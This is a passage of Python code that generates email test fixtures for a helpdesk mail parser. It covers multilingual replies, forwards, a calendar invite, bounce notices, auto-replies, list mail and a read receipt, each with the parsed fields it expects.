        An: Stefanie Krüger <s.krueger@example.com>
        Betreff: [#1049] Rechnung über 1.250,00 € fehlerhaft

        Sehr geehrte Frau Krüger,

        wir haben die Rechnung geprüft und eine Gutschrift erstellt.

        Mit freundlichen Grüßen
        Helpline Support
        """)
    )
    subject = "AW: [#1049] Rechnung über 1.250,00 € fehlerhaft"
    subject_words = ew_words(subject, "Windows-1252", [27], kind="Q")
    name = ew_q("Windows-1252", enc("Stefanie Krüger", "cp1252"))
    mid = "000b01db5d3e$6f2a1b30$4d7e5190$@example.com"
    headers = T(f"""
        From: {name} <s.krueger@example.com>
        To: "'Helpline Support'" <support@helpline.example>
        References: <ticket-1049.msg-1@helpline.example>
        In-Reply-To: <ticket-1049.msg-1@helpline.example>
        Subject: {subject_words[0]}
        \t{subject_words[1]}
        Date: Mon, 23 Nov 2026 11:47:30 +0100
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain;
        \tcharset="Windows-1252"
        Content-Transfer-Encoding: quoted-printable
        X-Mailer: Microsoft Outlook 16.0
        Thread-Index: AQJ8c2V0aW5nLXRocmVhZC1pbmRleAGs6WbPsXw7kQ==
        Content-Language: de
        """)
    return case(
        "reply_german_outlook_cp1252.eml",
        assemble(headers, "\n", qp(enc(plain, "cp1252"))),
        description="German Outlook desktop plain-text reply: '-----Ursprüngliche Nachricht-----' then Von:/Gesendet:/An:/Betreff: (the Von: line has Outlook's trailing space); windows-1252 with a real euro sign; Outlook-style Message-ID with '$' characters; subject split over two Q words.",
        from_address="s.krueger@example.com",
        from_name="Stefanie Krüger",
        subject=subject,
        message_id=mid,
        in_reply_to="ticket-1049.msg-1@helpline.example",
        references=["ticket-1049.msg-1@helpline.example"],
        text_contains=["Der Betrag von 1.250,00 € ist heute überwiesen worden."],
        reply_text=reply,
        charset_note="windows-1252 quoted-printable (€=80, –=96), correctly labelled.",
        plain=plain,
    )


def reply_french_apple() -> Case:
    reply = T("""
        Bonjour,

        Merci beaucoup, tout fonctionne à nouveau depuis ce matin. Très bonne journée à toute l’équipe !

        Élodie Martin
        """).strip()
    plain = (
        reply
        + "\n\n"
        + T("""
        > Le 23 nov. 2026 à 11:00, Helpline Support <support@helpline.example> a écrit\u00a0:
        >\x20
        > Bonjour Élodie,
        >\x20
        > Nous avons réinitialisé votre accès à l’intranet. Pouvez-vous réessayer ?
        >\x20
        > Helpline Support
        """)
    )
    subject = "Re: [#1050] Problème d’accès à l’intranet"
    cut = len("Re: [#1050] Problème d’accès à".encode())
    words = ew_words(subject, "utf-8", [cut], kind="Q")
    name = ew_q("utf-8", enc("Élodie Martin", "utf-8"))
    mid = "B2E4C6A8-1D3F-4A5B-9C7E-0F2A4C6E8A0B@example.org"
    headers = T(f"""
        Content-Type: text/plain;
        \tcharset=utf-8
        Content-Transfer-Encoding: quoted-printable
        Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.200.121\\))
        Subject: {words[0]}
         {words[1]}
        From: {name} <elodie.martin@example.org>
        In-Reply-To: <ticket-1050.msg-2@helpline.example>
        Date: Mon, 23 Nov 2026 12:05:44 +0100
        Message-Id: <{mid}>
        References: <ticket-1050.msg-2@helpline.example>
        To: Helpline Support <support@helpline.example>
        X-Mailer: Apple Mail (2.3826.200.121)
        """)
    return case(
        "reply_french_apple_mail.eml",
        assemble(headers, "\n", qp(enc(plain, "utf-8"))),
        description="French Apple Mail plain-text reply: '> Le 23 nov. 2026 à 11:00, X <x> a écrit :' (attribution itself quoted, with a NO-BREAK SPACE before the colon, as Apple writes it); subject as two UTF-8 Q words split at a character boundary.",
        from_address="elodie.martin@example.org",
        from_name="Élodie Martin",
        subject=subject,
        message_id=mid,
        in_reply_to="ticket-1050.msg-2@helpline.example",
        references=["ticket-1050.msg-2@helpline.example"],
        text_contains=["tout fonctionne à nouveau depuis ce matin", "l’équipe"],
        reply_text=reply,
        charset_note="UTF-8 quoted-printable; U+00A0 before ':' in the attribution.",
        plain=plain,
    )


# --------------------------------------------------------------------------
# Forwards and invites
# --------------------------------------------------------------------------


def forward_inline() -> Case:
    plain = T("""
        Hi support, can you look at this one? The customer says the VAT rate on his invoice is wrong.

        Hannah

        ---------- Forwarded message ---------
        From: Oliver Grant <oliver.grant@example.org>
        Date: Fri, 20 Nov 2026 at 16:45
        Subject: Invoice INV-2026-0815 – wrong VAT rate
        To: <billing@example.com>


        Hello,

        Invoice INV-2026-0815 was charged at 20% VAT, but we are VAT-exempt (the certificate is attached to our account).
        Could you please issue a corrected invoice?

        Regards,
        Oliver Grant
        """)
    html = (
        '<div dir="ltr">Hi support, can you look at this one? The customer says the VAT rate '
        "on his invoice is wrong.<div><br></div><div>Hannah<br><br>"
        '<div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">'
        '---------- Forwarded message ---------<br>From: <strong class="gmail_sendername" '
        'dir="auto">Oliver Grant</strong> <span dir="auto">&lt;<a href="mailto:oliver.grant@'
        'example.org">oliver.grant@example.org</a>&gt;</span><br>Date: Fri, 20 Nov 2026 at '
        "16:45<br>Subject: Invoice INV-2026-0815 – wrong VAT rate<br>To: &lt;"
        '<a href="mailto:billing@example.com">billing@example.com</a>&gt;<br></div><br><br>'
        '<div dir="ltr">Hello,<div><br></div><div>Invoice INV-2026-0815 was charged at 20% VAT, '
        "but we are VAT-exempt (the certificate is attached to our account).</div><div>Could "
        "you please issue a corrected invoice?</div><div><br></div><div>Regards,</div><div>"
        "Oliver Grant</div></div>\n</div></div></div>\n"
    )
    boundary = "0000000000007f3c2a062a6011d4"
    mid = "CAB3nT5uV7wX9yZ1aB3cD5eF7gH9iJ1kL3mN5oP7qR9sT1u@mail.gmail.example"
    headers = T(f"""
        MIME-Version: 1.0
        From: Hannah Becker <hannah.becker@example.com>
        Date: Mon, 23 Nov 2026 09:31:07 +0000
        Message-ID: <{mid}>
        Subject: =?UTF-8?Q?Fwd=3A_Invoice_INV=2D2026=2D0815_=E2=80=93_wrong_VAT_rate?=
        To: support@helpline.example
        Content-Type: multipart/alternative; boundary="{boundary}"
        """)
    body = mp(
        boundary,
        part(
            """
            Content-Type: text/plain; charset="UTF-8"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(plain, "utf-8")),
        ),
        part(
            """
            Content-Type: text/html; charset="UTF-8"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(html, "utf-8")),
        ),
    )
    return case(
        "forward_inline_gmail.eml",
        assemble(headers, "\n", body),
        description="Gmail inline forward: a short note, then '---------- Forwarded message ---------' with From/Date/Subject/To of the original. The forwarded content is the substance of the ticket and must stay in the text.",
        from_address="hannah.becker@example.com",
        from_name="Hannah Becker",
        subject="Fwd: Invoice INV-2026-0815 – wrong VAT rate",
        message_id=mid,
        text_contains=[
            "can you look at this one?",
            "From: Oliver Grant <oliver.grant@example.org>",
            "but we are VAT-exempt (the certificate is attached to our account).",
        ],
        reply_text=None,
        charset_note="UTF-8 quoted-printable; a long forwarded line is soft-wrapped.",
        plain=plain,
    )


def forward_as_attachment() -> Case:
    inner_text = T("""
        Hello Hannah,

        order 5531 arrived with two broken mugs. I'd like a replacement – not a refund, please.

        Oliver
        """)
    inner = assemble(
        T("""
        Return-Path: <oliver.grant@example.org>
        Message-ID: <b1f0e6c2-9a4d-4c1e-8f7b-3d2a5e6f7a8b@example.org>
        Date: Fri, 20 Nov 2026 16:45:12 +0000
        MIME-Version: 1.0
        User-Agent: Mozilla Thunderbird
        From: Oliver Grant <oliver.grant@example.org>
        To: Hannah Becker <hannah.becker@example.com>
        Subject: Complaint about order 5531
        Content-Type: text/plain; charset=UTF-8
        Content-Transfer-Encoding: quoted-printable
        """),
        "\n",
        qp(enc(inner_text, "utf-8")),
    )
    note = (
        "Customer complaint below, it landed in my own inbox. Can you take it from here?\n\nHannah"
    )
    boundary = "------------0aB1cD2eF3gH4iJ5kL6mN7oP"
    mid = "e5d4c3b2-a190-4f8e-9d7c-6b5a49382716@example.com"
    filename = "Complaint about order 5531.eml"
    headers = T(f"""
        Content-Type: multipart/mixed; boundary="{boundary}"
        Message-ID: <{mid}>
        Date: Mon, 23 Nov 2026 09:40:00 +0000
        MIME-Version: 1.0
        User-Agent: Mozilla Thunderbird
        Content-Language: en-GB
        To: support@helpline.example
        From: Hannah Becker <hannah.becker@example.com>
        Subject: Fwd: Complaint about order 5531
        """)
    body = mp(
        boundary,
        part(
            """
            Content-Type: text/plain; charset=UTF-8; format=flowed
            Content-Transfer-Encoding: 7bit
            """,
            (note + "\n").encode("ascii"),
        ),
        # The CRLF conversion is already applied to *inner*; keep it as-is by
        # building this part from LF text and splicing the bytes in afterwards.
        part(
            f"""
            Content-Type: message/rfc822; charset=UTF-8; name="{filename}"
            Content-Disposition: attachment; filename="{filename}"
            """,
            b"@@INNER@@",
        ),
        preamble="This is a multi-part message in MIME format.\n",
    )
    raw = assemble(headers, "\n", body).replace(b"@@INNER@@", inner)
    return case(
        "forward_as_attachment.eml",
        raw,
        description="Thunderbird 'Forward as Attachment': a note plus the original message as a message/rfc822 part named 'Complaint about order 5531.eml'. Only the outer note is the text body.",
        from_address="hannah.becker@example.com",
        from_name="Hannah Becker",
        subject="Fwd: Complaint about order 5531",
        message_id=mid,
        text_contains=["it landed in my own inbox"],
        reply_text=note,
        attachments=[att(filename, "message/rfc822", inner)],
        charset_note="Attachment size is the raw byte length of the embedded message (CRLF, still quoted-printable inside).",
        plain=note,
    )


def calendar_invite() -> Case:
    logical = [
        "BEGIN:VCALENDAR",
        "PRODID:-//Google Inc//Google Calendar 70.9054//EN",
        "VERSION:2.0",
        "CALSCALE:GREGORIAN",
        "METHOD:REQUEST",
        "BEGIN:VEVENT",
        "DTSTART:20261203T140000Z",
        "DTEND:20261203T150000Z",
        "DTSTAMP:20261123T101500Z",
        "ORGANIZER;CN=Grace Liu:mailto:grace.liu@example.com",
        "UID:4kq9v2m7c1s8t3r6p0n5b2x7z9@google.example",
        "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=support@helpline.example;X-NUM-GUESTS=0:mailto:support@helpline.example",
        "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;RSVP=TRUE;CN=Grace Liu;X-NUM-GUESTS=0:mailto:grace.liu@example.com",
        "CREATED:20261123T101459Z",
        "DESCRIPTION:Agenda: ticket volumes\\, SLA breaches\\, next quarter’s staffing.",
        "LAST-MODIFIED:20261123T101459Z",
        "LOCATION:Room 4.01 / https://meet.example.com/abc-defg-hij",
        "SEQUENCE:0",
        "STATUS:CONFIRMED",
        "SUMMARY:Quarterly support review",
        "TRANSP:OPAQUE",
        "END:VEVENT",
        "END:VCALENDAR",
    ]
    ics_lines = [folded for line in logical for folded in ical_fold(line)]
    assert all(len(line.encode()) <= 75 for line in ics_lines)
    ics = enc("\n".join(ics_lines) + "\n", "utf-8").replace(b"\n", b"\r\n")
    plain = T("""
        Quarterly support review
        Thursday 3 Dec 2026 ⋅ 14:00 – 15:00
        Time zone: Europe/London
        Location: Room 4.01 / https://meet.example.com/abc-defg-hij

        Agenda: ticket volumes, SLA breaches, next quarter’s staffing.

        Organiser
        Grace Liu
        grace.liu@example.com

        Guests
        Grace Liu - organiser
        support@helpline.example

        Reply for support@helpline.example
        Invitation from Google Calendar
        """)
    html = (
        '<div style="font-family:Roboto,Helvetica,Arial,sans-serif"><h2>Quarterly support review</h2>'
        "<p>Thursday 3 Dec 2026 ⋅ 14:00 – 15:00 (Europe/London)</p>"
        "<p>Agenda: ticket volumes, SLA breaches, next quarter’s staffing.</p>"
        '<p><a href="https://calendar.example.com/event?action=RESPOND&amp;rst=1">Yes</a> '
        '<a href="https://calendar.example.com/event?action=RESPOND&amp;rst=2">No</a> '
        '<a href="https://calendar.example.com/event?action=RESPOND&amp;rst=3">Maybe</a></p></div>\n'
    )
    outer = "000000000000b3a9e2062a61c0f5"
    inner = "000000000000b3a9e1062a61c0f3"
    mid = "calendar-4kq9v2m7-c1s8-t3r6-p0n5-b2x7z9aa0011@google.example"
    headers = T(f"""
        MIME-Version: 1.0
        Reply-To: Grace Liu <grace.liu@example.com>
        Sender: Google Calendar <calendar-notification@google.example>
        Message-ID: <{mid}>
        Date: Mon, 23 Nov 2026 10:15:00 +0000
        Subject: Invitation: Quarterly support review @ Thu 3 Dec 2026 14:00 - 15:00
         (GMT) (support@helpline.example)
        From: Grace Liu <grace.liu@example.com>
        To: support@helpline.example
        Content-Type: multipart/mixed; boundary="{outer}"
        """)
    alternative = mp(
        inner,
        part(
            """
            Content-Type: text/plain; charset="UTF-8"; format=flowed; delsp=yes
            Content-Transfer-Encoding: base64
            """,
            b64_text(enc(plain, "utf-8")),
        ),
        part(
            """
            Content-Type: text/html; charset="UTF-8"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(html, "utf-8")),
        ),
        part(
            """
            Content-Type: text/calendar; charset="UTF-8"; method=REQUEST
            Content-Transfer-Encoding: 7bit
            """,
            # 7bit yet UTF-8 (’): exactly what Google sends.
            b"@@ICS@@",
        ),
    )
    body = mp(
        outer,
        part(f'Content-Type: multipart/alternative; boundary="{inner}"\n', alternative),
        part(
            """
            Content-Type: application/ics; name="invite.ics"
            Content-Disposition: attachment; filename="invite.ics"
            Content-Transfer-Encoding: base64
            """,
            b64(ics),
        ),
    )
    raw = assemble(headers, "\n", body).replace(b"@@ICS@@", ics)
    return case(
        "calendar_invite_google.eml",
        raw,
        description="Google Calendar invitation: multipart/mixed > multipart/alternative (text/plain format=flowed delsp=yes in base64, text/html, text/calendar method=REQUEST) + invite.ics as application/ics attachment. Folded ASCII subject.",
        from_address="grace.liu@example.com",
        from_name="Grace Liu",
        subject="Invitation: Quarterly support review @ Thu 3 Dec 2026 14:00 - 15:00 (GMT) (support@helpline.example)",
        message_id=mid,
        text_contains=[
            "Quarterly support review",
            "Thursday 3 Dec 2026 ⋅ 14:00 – 15:00",
            "next quarter’s staffing.",
        ],
        attachments=[att("invite.ics", "application/ics", ics)],
        charset_note="The inline text/calendar part is labelled 7bit but contains UTF-8 (’), as Google sends it.",
        plain=plain,
    )


# --------------------------------------------------------------------------
# Bounces and automatic mail
# --------------------------------------------------------------------------


def dsn_postfix() -> Case:
    original_mid = "ticket-1051.msg-1@helpline.example"
    notification = T("""
        This is the mail system at host mx1.helpline.example.

        I'm sorry to have to inform you that your message could not
        be delivered to one or more recipients. It's attached below.

        For further assistance, please send mail to postmaster.

        If you do so, please include this problem report. You can
        delete your own text from the attached returned message.

                           The mail system

        <nobody@example.org>: host mx.example.org[192.0.2.25] said: 550 5.1.1
            <nobody@example.org>: Recipient address rejected: User unknown in virtual
            mailbox table (in reply to RCPT TO command)
        """)
    status = T("""
        Reporting-MTA: dns; mx1.helpline.example
        X-Postfix-Queue-ID: 4Zk3Lq1Xyz2p
        X-Postfix-Sender: rfc822; support@helpline.example
        Arrival-Date: Mon, 23 Nov 2026 10:01:01 +0000 (UTC)

        Final-Recipient: rfc822; nobody@example.org
        Original-Recipient: rfc822;nobody@example.org
        Action: failed
        Status: 5.1.1
        Remote-MTA: dns; mx.example.org
        Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.org>: Recipient address
            rejected: User unknown in virtual mailbox table
        """)
    original_headers = T(f"""
        Return-Path: <support@helpline.example>
        Received: from app1.helpline.example (app1.helpline.example [192.0.2.10])
        \tby mx1.helpline.example (Postfix) with ESMTPS id 4Zk3Lq1Xyz2p
        \tfor <nobody@example.org>; Mon, 23 Nov 2026 10:01:01 +0000 (UTC)
        Date: Mon, 23 Nov 2026 10:00:58 +0000
        From: Helpline Support <support@helpline.example>
        To: nobody@example.org
        Subject: [#1051] We have received your request
        Message-ID: <{original_mid}>
        In-Reply-To: <5a1b2c3d4e5f@example.org>
        References: <5a1b2c3d4e5f@example.org>
        Auto-Submitted: auto-replied
        MIME-Version: 1.0
        Content-Type: text/plain; charset="utf-8"
        Content-Transfer-Encoding: 7bit
        """)
    boundary = "4Zk3Lq1Xyz2p.1795432862/mx1.helpline.example"
    headers = T(f"""
        Return-Path: <>
        X-Original-To: support@helpline.example
        Delivered-To: support@helpline.example
        Received: by mx1.helpline.example (Postfix)
        \tid 5Ab4Mr2Yza3q; Mon, 23 Nov 2026 10:01:02 +0000 (UTC)
        Date: Mon, 23 Nov 2026 10:01:02 +0000 (UTC)
        From: MAILER-DAEMON@mx1.helpline.example (Mail Delivery System)
        Subject: Undelivered Mail Returned to Sender
        To: support@helpline.example
        Auto-Submitted: auto-replied
        MIME-Version: 1.0
        Content-Type: multipart/report; report-type=delivery-status;
        \tboundary="{boundary}"
        Content-Transfer-Encoding: 8bit
        Message-Id: <20261123100102.5Ab4Mr2Yza3q@mx1.helpline.example>
        """)
    body = mp(
        boundary,
        part(
            """
            Content-Description: Notification
            Content-Type: text/plain; charset=us-ascii
            """,
            enc(notification, "ascii"),
        ),
        part(
            """
            Content-Description: Delivery report
            Content-Type: message/delivery-status
            """,
            enc(status, "ascii"),
        ),
        part(
            """
            Content-Description: Undelivered Message Headers
            Content-Type: text/rfc822-headers
            Content-Transfer-Encoding: 8bit
            """,
            enc(original_headers, "ascii"),
        ),
        preamble="This is a MIME-encapsulated message.\n\n",
    )
    return case(
        "auto_dsn_postfix.eml",
        assemble(headers, "\n", body),
        description="Postfix bounce: multipart/report; report-type=delivery-status from MAILER-DAEMON (name only in a comment), Return-Path <>, a message/delivery-status part and the original headers as text/rfc822-headers. The original's own In-Reply-To/References must not be mistaken for its Message-ID.",
        from_address="MAILER-DAEMON@mx1.helpline.example",
        from_name="Mail Delivery System",
        subject="Undelivered Mail Returned to Sender",
        message_id="20261123100102.5Ab4Mr2Yza3q@mx1.helpline.example",
        text_contains=["550 5.1.1", "User unknown in virtual"],
        attachments=[],
        is_auto_reply=True,
        is_bounce=True,
        bounce_original_message_id=original_mid,
        charset_note="US-ASCII.",
        plain=notification,
    )


def ndr_exchange() -> Case:
    original_mid = "ticket-1052.msg-4@helpline.example"
    plain = T("""
        Your message to nobody@example.com couldn't be delivered.

        nobody wasn't found at example.com.

        support   Office 365   nobody
        Action Required                 Recipient

        Unknown To address

        How to Fix It
        The address may be misspelled or may not exist. Try one or more of the following:

        Diagnostic information for administrators:

        Generating server: AM0PR01MB1234.eurprd01.prod.exchangelabs.example

        nobody@example.com
        Remote Server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup'
        """)
    html = T("""
        <html>
        <head>
        <meta http-equiv="Content-Type" content="text/html; charset=us-ascii">
        <style>
        .BodyFragment { font-size: 10pt; font-family: Tahoma; }
        </style>
        </head>
        <body>
        <div style="font-family:'Segoe UI',Frutiger,Arial,sans-serif;font-size:16px">
        <p>Your message to <a href="mailto:nobody@example.com">nobody@example.com</a> couldn't be delivered.</p>
        <p><b>nobody</b> wasn't found at <b>example.com</b>.</p>
        <p style="color:#c00000">Remote Server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup'</p>
        </div>
        </body>
        </html>
        """)
    status = T("""
        Reporting-MTA: dns;AM0PR01MB1234.eurprd01.prod.exchangelabs.example
        Received-From-MTA: dns;AM0PR01MB5678.eurprd01.prod.exchangelabs.example
        Arrival-Date: Mon, 23 Nov 2026 10:03:10 +0000

        Final-Recipient: rfc822;nobody@example.com
        Action: failed
        Status: 5.1.10
        Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup
        X-Display-Name: nobody@example.com
        """)
    original = T(f"""
        Received: from AM0PR01MB5678.eurprd01.prod.exchangelabs.example
         ([2001:db8::25]) by AM0PR01MB5678.eurprd01.prod.exchangelabs.example
         ([2001:db8::25]) with mapi id 15.20.8158.021; Mon, 23 Nov 2026 10:03:09 +0000
        From: Helpline Support <support@helpline.example>
        To: "nobody@example.com" <nobody@example.com>
        Subject: [#1052] Contract renewal
        Date: Mon, 23 Nov 2026 10:03:08 +0000
        Message-ID: <{original_mid}>
        References: <CAQ4nR7sT9uV1wX3yZ5aB7cD9eF1gH3iJ5kL@mail.gmail.example>
        In-Reply-To: <CAQ4nR7sT9uV1wX3yZ5aB7cD9eF1gH3iJ5kL@mail.gmail.example>
        Content-Type: text/plain; charset="us-ascii"
        Content-Transfer-Encoding: 7bit
        MIME-Version: 1.0

        Hello,

        your contract renewal has been scheduled for 1 December 2026.

        Helpline Support
        """)
    outer = "c3f1a2b4-5d6e-4f70-8a9b-0c1d2e3f4a5b"
    inner = "a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d"
    mid = "5f2c9a1e-7b3d-4e8f-a6c0-1d2e3f4a5b6c@AM0PR01MB1234.eurprd01.prod.exchangelabs.example"
    headers = T(f"""
        Return-Path: <>
        From: Microsoft Outlook
        \t<MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@helpline.example>
        To: <support@helpline.example>
        Date: Mon, 23 Nov 2026 10:03:12 +0000
        Content-Type: multipart/report; report-type=delivery-status;
        \tboundary="{outer}"
        X-MS-Exchange-Message-Is-Ndr:
        Content-Language: en-US
        Message-ID:
        \t<{mid}>
        In-Reply-To: <{original_mid}>
        References: <{original_mid}>
        Thread-Topic: [#1052] Contract renewal
        Thread-Index: AQHbPWVxN2mY4k8TlU2q0wAbCdEfGg==
        Subject: Undeliverable: [#1052] Contract renewal
        MIME-Version: 1.0
        """)
    alternative = mp(
        inner,
        part(
            """
            Content-Type: text/plain; charset="us-ascii"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(plain, "ascii")),
        ),
        part(
            """
            Content-Type: text/html; charset="us-ascii"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(html, "ascii")),
        ),
    )
    body = mp(
        outer,
        part(
            f'Content-Type: multipart/alternative; differences=Content-Type;\n\tboundary="{inner}"\n',
            alternative,
        ),
        part("Content-Type: message/delivery-status\n", enc(status, "ascii")),
        part("Content-Type: message/rfc822\n", enc(original, "ascii")),
    )
    return case(
        "auto_ndr_exchange.eml",
        assemble(headers, "\n", body),
        description="Exchange Online NDR ('Undeliverable: ...'): multipart/report delivery-status with a multipart/alternative human part, message/delivery-status, and the whole original as message/rfc822. Sender is the MicrosoftExchange<hex> system mailbox, Return-Path <>.",
        from_address="MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@helpline.example",
        from_name="Microsoft Outlook",
        subject="Undeliverable: [#1052] Contract renewal",
        message_id=mid,
        in_reply_to=original_mid,
        references=[original_mid],
        text_contains=["Your message to nobody@example.com couldn't be delivered.", "550 5.1.10"],
        attachments=[],
        html_must_not_contain=["<style"],
        is_auto_reply=True,
        is_bounce=True,
        bounce_original_message_id=original_mid,
        charset_note="US-ASCII quoted-printable.",
        plain=plain,
    )


def out_of_office() -> Case:
    plain = T("""
        Hi,

        I'm out of the office until Monday 30 November with limited access to email.
        For urgent IT matters please contact it-desk@example.com.

        Ravi
        """)
    html = (
        '<div dir="ltr">Hi,<br><br>I\'m out of the office until Monday 30 November with '
        "limited access to email.<br>For urgent IT matters please contact "
        '<a href="mailto:it-desk@example.com">it-desk@example.com</a>.<br><br>Ravi</div>\n'
    )
    boundary = "0000000000005c1d2e062a61f0a8"
    mid = "CAP8vQ7mZ3k9rT1yH0uX5wB2nL6dF4sJ8gE1cV7aK9oM3pR2tYw@mail.gmail.example"
    headers = T(f"""
        MIME-Version: 1.0
        From: Ravi Shah <ravi.shah@example.com>
        Date: Mon, 23 Nov 2026 10:00:41 +0000
        Message-ID: <{mid}>
        Subject: Out of office until 30 November
        To: Helpline Support <support@helpline.example>
        In-Reply-To: <ticket-1053.msg-3@helpline.example>
        References: <ticket-1053.msg-3@helpline.example>
        Auto-Submitted: auto-replied
        Content-Type: multipart/alternative; boundary="{boundary}"
        """)
    body = mp(
        boundary,
        part('Content-Type: text/plain; charset="UTF-8"\n', enc(plain, "ascii")),
        part('Content-Type: text/html; charset="UTF-8"\n', enc(html, "ascii")),
    )
    return case(
        "auto_out_of_office.eml",
        assemble(headers, "\n", body),
        description="Gmail vacation responder: Auto-Submitted: auto-replied, threaded to our message via In-Reply-To. Must not reopen the ticket.",
        from_address="ravi.shah@example.com",
        from_name="Ravi Shah",
        subject="Out of office until 30 November",
        message_id=mid,
        in_reply_to="ticket-1053.msg-3@helpline.example",
        references=["ticket-1053.msg-3@helpline.example"],
        text_contains=["I'm out of the office until Monday 30 November"],
        is_auto_reply=True,
        charset_note="ASCII content labelled UTF-8, no Content-Transfer-Encoding header.",
        plain=plain,
    )


def bulk_suppress() -> Case:
    plain = T("""
        ALERT: Disk usage above 90% on db-02

        Host:      db-02.example.com
        Volume:    /var/lib/postgresql
        Usage:     93.4% (466 GB of 500 GB)
        Triggered: 2026-11-23 10:12:00 UTC

        View alert: https://monitoring.example.com/alerts/77120
        """)
    mid = "alert-77120.1795435920@monitoring.example.com"
    headers = T(f"""
        Return-Path: <bounces+77120@monitoring.example.com>
        From: Example Monitoring <alerts@monitoring.example.com>
        To: support@helpline.example
        Subject: [ALERT] Disk usage above 90% on db-02
        Date: Mon, 23 Nov 2026 10:12:03 +0000
        Message-ID: <{mid}>
        Precedence: bulk
        X-Auto-Response-Suppress: OOF, AutoReply
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: 7bit
        """)
    return case(
        "auto_bulk_suppress.eml",
        assemble(headers, "\n", enc(plain, "ascii")),
        description="Monitoring notification whose only automation markers are 'Precedence: bulk' and 'X-Auto-Response-Suppress: OOF, AutoReply' (no Auto-Submitted, normal Return-Path). Helpline must not auto-acknowledge it.",
        from_address="alerts@monitoring.example.com",
        from_name="Example Monitoring",
        subject="[ALERT] Disk usage above 90% on db-02",
        message_id=mid,
        text_contains=["Usage:     93.4% (466 GB of 500 GB)"],
        reply_text=plain.strip(),
        is_auto_reply=True,
        charset_note="ASCII.",
        plain=plain,
    )


def mailing_list() -> Case:
    plain = T("""
        Hi all,

        since upgrading to ExampleApp 4.2 the SSO login fails with "invalid state" for
        about half of our users. Rolling back to 4.1.3 fixes it. Anyone else?

        Kim
        _______________________________________________
        users mailing list -- users@lists.example.org
        To unsubscribe send an email to users-leave@lists.example.org
        """)
    mid = "f3a9c1e7-2b4d-4f6a-8c0e-1d3f5a7b9c2e@example.org"
    headers = T(f"""
        Return-Path: <users-bounces+support=helpline.example@lists.example.org>
        Received: from mail.lists.example.org (mail.lists.example.org [192.0.2.80])
        \tby mx1.helpline.example (Postfix) with ESMTPS id 6Bc5Ns3Zab4r
        \tfor <support@helpline.example>; Mon, 23 Nov 2026 10:20:14 +0000 (UTC)
        From: Kim Park <kim.park@example.org>
        To: users@lists.example.org
        Subject: [users] Release 4.2 breaks SSO login
        Date: Mon, 23 Nov 2026 10:20:11 +0000
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain; charset="us-ascii"
        Content-Transfer-Encoding: 7bit
        Message-ID-Hash: 2XQ7KJ3MZP4R5T6V7W8X9Y0ZAB1CD2EF
        X-Message-ID-Hash: 2XQ7KJ3MZP4R5T6V7W8X9Y0ZAB1CD2EF
        X-MailFrom: kim.park@example.org
        X-Mailman-Version: 3.3.10
        List-Id: ExampleApp users <users.lists.example.org>
        Archived-At: <https://lists.example.org/archives/list/users@lists.example.org/message/2XQ7KJ3MZP4R5T6V7W8X9Y0ZAB1CD2EF/>
        List-Archive: <https://lists.example.org/archives/list/users@lists.example.org/>
        List-Help: <mailto:users-request@lists.example.org?subject=help>
        List-Owner: <mailto:users-owner@lists.example.org>
        List-Post: <mailto:users@lists.example.org>
        List-Subscribe: <mailto:users-join@lists.example.org>
        List-Unsubscribe: <mailto:users-leave@lists.example.org>
        """)
    return case(
        "auto_mailing_list.eml",
        assemble(headers, "\n", enc(plain, "ascii")),
        description="Mailman 3 list post delivered to the support address: List-Id and the other List-* headers (no Precedence header), list footer at the end. List traffic is treated as automatic.",
        from_address="kim.park@example.org",
        from_name="Kim Park",
        subject="[users] Release 4.2 breaks SSO login",
        message_id=mid,
        text_contains=['the SSO login fails with "invalid state"', "users-leave@lists.example.org"],
        is_auto_reply=True,
        charset_note="US-ASCII.",
        plain=plain,
    )


def null_return_path() -> Case:
    plain = T("""
        Hello,

        your support case 88231 ("DNS zone not updating") has been updated by our team.
        Reply above this line or view the case at https://hosting.example.com/cases/88231

        Example Hosting Support
        """)
    mid = "case-88231.update-4@hosting.example.com"
    headers = T(f"""
        Return-Path: <>
        Delivered-To: support@helpline.example
        From: Example Hosting <noreply@hosting.example.com>
        To: support@helpline.example
        Subject: Your support case 88231 has been updated
        Date: Mon, 23 Nov 2026 10:25:00 +0000
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: 7bit
        """)
    return case(
        "auto_null_return_path.eml",
        assemble(headers, "\n", enc(plain, "ascii")),
        description="System notification whose only automation marker is the null envelope sender 'Return-Path: <>' (no Auto-Submitted, Precedence or List-Id).",
        from_address="noreply@hosting.example.com",
        from_name="Example Hosting",
        subject="Your support case 88231 has been updated",
        message_id=mid,
        text_contains=["your support case 88231"],
        is_auto_reply=True,
        charset_note="ASCII.",
        plain=plain,
    )


def read_receipt() -> Case:
    human = T("""
        Your message

        To: Nora Lindqvist
        Subject: [#1054] Your new laptop is ready for collection
        Sent: Monday, November 23, 2026 10:00:00 AM (UTC+00:00) Dublin, Edinburgh, Lisbon, London

        was read on Monday, November 23, 2026 10:12:40 AM (UTC+00:00) Dublin, Edinburgh, Lisbon, London.
        """)
    mdn = T("""
        Reporting-UA: LAPTOP-7Q2K; Microsoft Outlook 16.0
